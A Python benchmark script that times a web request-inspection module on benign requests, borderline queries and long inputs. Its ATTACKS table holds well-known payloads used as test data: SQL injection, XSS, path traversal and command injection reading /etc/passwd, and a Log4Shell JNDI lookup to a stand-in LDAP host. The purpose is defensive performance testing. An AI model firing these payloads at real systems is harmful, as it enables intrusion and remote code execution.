"""What does inspecting a request cost: a benign one, an attack, and the longest query that a server lets in?

Run: python benchmarks/threat_inspection.py
"""

from __future__ import annotations

import statistics
import time

from aura_logging.patterns import ENGINE_NAME
from aura_logging.threats import examine
from aura_logging.threats.inspection import CHARACTERS_AT_MOST

BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)
BENIGN = {
    "path": "/catalogue/shoes/red/",
    "query": "page=2&sort=-price&q=red+running+shoes&utm_source=news",
    "user-agent": BROWSER,
    "referer": "https://www.example.com/catalogue/?page=1",
    "host": "www.example.com",
    "cookie": "sessionid=3f2a9c81d0; csrftoken=Qx81kd02mA",
}
SUSPECT = {
    "apostrophe": "q=O%27Brien",
    "quoted search": "q=%22red+shoes%22+and+boots",
    "JSON": "f=%7B%22a%22%3A%5B1%5D%7D",
}
ATTACKS = {
    "tautology": "id=1%27%20or%201%3D1--%20-",
    "union": "q=-1+union+select+1,2,concat(user(),0x3a,version()),4,5,6,7,8,9,10--+",
    "blind": "id=1'+AND+(SELECT+2*(IF((SELECT+*+FROM+(SELECT+CONCAT(0x71,(SELECT+1),0x71))s),+8446744,+8446744)))--+",
    "script": "q=%3Cscript%3Ealert(1)%3C/script%3E",
    "handler": "q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
    "traversal": "f=..%252f..%252f..%252fetc%252fpasswd",
    "command": "host=127.0.0.1%3Bcat%20/etc/passwd",
    "log4shell": "x=${${lower:j}${::-n}di:ldap://x.example/a}",
    "template": "name={{7*7}}",
}
LONG = {
    "letters": "a",
    "apostrophes": "'",
    "brackets": "((1",
    "conditions": "' or 1=1 ",
    "elements": "<a ",
    "everything": "a'\"<;|`${{../",
    "percents": "%25",
    "braces": "{",
    "styles": "style=",
    "comments": "/*",
    "parameters": "a='&",
}


def microseconds(parts: dict[str, str], calls: int) -> float:
    """Return the median of seven rounds."""
    examine(parts)
    rounds = []
    for _ in range(7):
        began = time.perf_counter()
        for _ in range(calls):
            examine(parts)
        rounds.append((time.perf_counter() - began) / calls * 1e6)
    return statistics.median(rounds)


def main() -> None:
    print(f"gate: {ENGINE_NAME}; microseconds a request, medians")
    three = {name: BENIGN[name] for name in ("path", "query", "user-agent")}
    print(f"  benign, path + query + user agent        {microseconds(three, 20_000):8.1f}   (target 3)")
    print(f"  benign, and referer, host, cookie        {microseconds(BENIGN, 20_000):8.1f}")
    for name, query in SUSPECT.items():
        print(f"  looks closer: {name:26} {microseconds({**BENIGN, 'query': query}, 1_000):8.1f}")
    for name, query in ATTACKS.items():
        print(f"  attack: {name:32} {microseconds({**BENIGN, 'query': query}, 1_000):8.1f}   (target 150)")
    print(f"longest queries, milliseconds; what is over {CHARACTERS_AT_MOST} characters is cut")
    print("  " + "".ljust(16) + "".join(f"{size:>10}" for size in (1_024, 4_096, 8_192, 65_536)))
    for name, unit in LONG.items():
        costs = [
            microseconds({**BENIGN, "query": "q=" + (unit * (size // len(unit)))}, 3) / 1e3
            for size in (1_024, 4_096, 8_192, 65_536)
        ]
        print("  " + name.ljust(16) + "".join(f"{cost:10.2f}" for cost in costs))


if __name__ == "__main__":
    main()
